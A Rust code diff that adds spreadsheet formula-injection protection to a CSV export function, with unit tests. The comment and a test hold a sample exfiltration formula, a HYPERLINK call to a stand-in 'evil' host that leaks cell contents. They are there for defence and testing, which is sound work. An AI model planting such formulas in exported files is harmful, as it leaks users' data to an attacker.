@@ -4,13 +4,24 @@ use crate::domain::mention::EventKind;
 use crate::domain::transfer::ExportLine;
 use chrono::{DateTime, Utc};
 
-/// Quotes a CSV field when it needs it (RFC 4180; also when it starts or ends with a space, which some
-/// readers would trim).
+/// One CSV field, quoted when it contains a comma, quote, CR or LF, or starts or ends with a space
+/// (RFC 4180: quotes inside are doubled). Every CSV Lyssna writes goes through it.
+///
+/// Scraped text goes into these files, and spreadsheets run a cell that starts with `=`, `+`, `-`,
+/// `@`, a tab or a CR as a formula (`=HYPERLINK("http://evil/?"&A1)` leaks the sheet). Such a cell
+/// gets a leading `'`, which spreadsheets show as text (OWASP's advice); a plain number such as
+/// `-3` or `+0.5` cannot be a formula and is left as it is.
 pub fn field(s: &str) -> String {
+    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']) && s.parse::<f64>().is_err();
+    let s = if formula {
+        std::borrow::Cow::Owned(format!("'{s}"))
+    } else {
+        std::borrow::Cow::Borrowed(s)
+    };
     if s.contains([',', '"', '\r', '\n']) || s.starts_with(' ') || s.ends_with(' ') {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s.into_owned()
     }
 }
 
@@ -56,4 +67,27 @@ pub fn export_csv(lines: &[ExportLine]) -> Vec<String> {
         );
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::field;
+
+    #[test]
+    fn fields_are_quoted_when_needed_and_formulas_neutralised() {
+        assert_eq!(field("plain"), "plain");
+        assert_eq!(field("a,b"), "\"a,b\"");
+        assert_eq!(field("say \"hej\""), "\"say \"\"hej\"\"\"");
+        assert_eq!(field("two\nlines"), "\"two\nlines\"");
+        assert_eq!(field(" padded"), "\" padded\"");
+        assert_eq!(
+            field("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""
+        );
+        for f in ["+1+1", "-2+3", "@SUM(A1)", "\tx", "=1"] {
+            assert!(field(f).trim_start_matches('"').starts_with('\''), "{f}");
+        }
+        assert_eq!(field("-3"), "-3");
+        assert_eq!(field("+0.5"), "+0.5");
+    }
 }
